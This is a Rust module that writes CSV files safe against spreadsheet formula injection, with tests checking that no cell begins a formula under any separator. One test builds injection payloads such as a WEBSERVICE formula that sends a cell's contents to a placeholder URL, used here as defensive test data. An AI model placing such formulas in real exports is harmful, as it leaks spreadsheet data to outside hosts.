//! Files for spreadsheets and trackers: RFC 4180, with cells that no program can interpret as anything but text.
//!
//! A spreadsheet splits lines at the separator of its language or user: a comma, semicolon, tab or bar. Whichever
//! it is, no cell may begin a formula: wherever a cell could begin, an apostrophe precedes any character that
//! starts a formula, in half and full width, even after blanks and quotation marks. Line feeds and tabs are written
//! out like all invisible characters.

use leastwise_core::visible::{visible, visible_line};

/// Maximum length of a cell; spreadsheets cut longer ones.
const LONGEST_CELL: usize = 32_767;

/// Characters after which a reader with another separator would begin a cell. Tabs are written out.
const SEPARATORS: [char; 3] = [',', ';', '|'];

/// A cell that no spreadsheet interprets as a formula, and that is cut visibly if it is too long.
pub(super) fn guarded(cell: &str) -> String {
    cut(without_formulas(&visible_line(cell)))
}

/// The same for a text of several lines, for trackers that accept it as one cell.
pub(super) fn guarded_text(cell: &str) -> String {
    cut(without_formulas(&visible(cell)))
}

fn cut(mut cell: String) -> String {
    // No text has more units of UTF-16 than bytes.
    let length = if cell.len() > LONGEST_CELL {
        cell.encode_utf16().count()
    } else {
        0
    };
    if length > LONGEST_CELL {
        let more = format!(" ... ({length} characters in all)");
        let mut room = LONGEST_CELL - more.len();
        let end = cell.char_indices().find(|(_, c)| {
            let fits = c.len_utf16() <= room;
            room = room.saturating_sub(c.len_utf16());
            !fits
        });
        cell.truncate(end.map_or(cell.len(), |(at, _)| at));
        cell.push_str(&more);
    }
    cell
}

/// Inserts an apostrophe wherever a cell could begin with the start of a formula.
fn without_formulas(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 1);
    let mut rest = text;
    loop {
        let begins = rest.trim_start_matches([' ', '"']).starts_with(begins_formula);
        if begins {
            out.push('\'');
        }
        let Some((cell, after)) = rest.find(SEPARATORS).and_then(|at| rest.split_at_checked(at + 1)) else {
            out.push_str(rest);
            return out;
        };
        out.push_str(cell);
        rest = after;
    }
}

/// Whether a spreadsheet treats the character as the start of a formula; some also accept full width.
fn begins_formula(c: char) -> bool {
    matches!(
        c,
        '=' | '+' | '-' | '@' | '\u{ff1d}' | '\u{ff0b}' | '\u{ff0d}' | '\u{ff20}'
    )
}

/// Rows in the format of RFC 4180.
pub(super) fn rows(rows: impl IntoIterator<Item = Vec<String>>) -> String {
    let mut writer = ::csv::WriterBuilder::new()
        .terminator(::csv::Terminator::CRLF)
        .from_writer(Vec::new());
    for row in rows {
        // Writing to memory cannot fail, and all rows are of one length.
        let _ = writer.write_record(&row);
    }
    writer
        .into_inner()
        .ok()
        .and_then(|bytes| String::from_utf8(bytes).ok())
        .unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::{begins_formula, guarded, rows};

    /// Splits a line like a spreadsheet: the text between separators, without quotation marks.
    fn cells(text: &str, separator: u8) -> Vec<String> {
        let reader = ::csv::ReaderBuilder::new()
            .delimiter(separator)
            .flexible(true)
            .has_headers(false)
            .from_reader(text.as_bytes());
        reader
            .into_records()
            .flatten()
            .flat_map(|row| row.iter().map(str::to_owned).collect::<Vec<_>>())
            .collect()
    }

    #[test]
    fn no_cell_begins_a_formula_whatever_the_separator_is() {
        let dangerous = ["=", "+", "-", "@", "\u{ff1d}", "\u{ff0b}", "\u{ff0d}", "\u{ff20}"];
        let before = [
            "", ";", ",", "|", "\t", "a;", "a, b|", "a;\"", "\"", "a\n", "a\r\n", " ", "a; ", ";\" \"",
            "\u{a0}", "\u{200b}", "a,\"b\";",
        ];
        for sign in dangerous {
            for before in before {
                let cell = format!("{before}{sign}WEBSERVICE(\"http://x\"&B2);x");
                let text = rows([vec!["a".to_owned(), guarded(&cell), "z".to_owned()]]);
                for separator in [b',', b';', b'\t', b'|'] {
                    for cell in cells(&text, separator) {
                        let bare = cell.trim_start_matches([' ', '"']);
                        assert!(
                            !bare.starts_with(begins_formula),
                            "{text:?} at {:?}: {cell:?}",
                            char::from(separator)
                        );
                    }
                }
            }
        }
    }

    #[test]
    fn text_that_begins_no_formula_stays() {
        let plain = "arn:aws:iam::111111111111:role/a=b+c,d@e-f, x-y; (=)";
        assert_eq!(guarded(plain), plain);
        assert_eq!(guarded("a\u{202e}b\nc"), "a\\u202eb\\nc");
    }
}
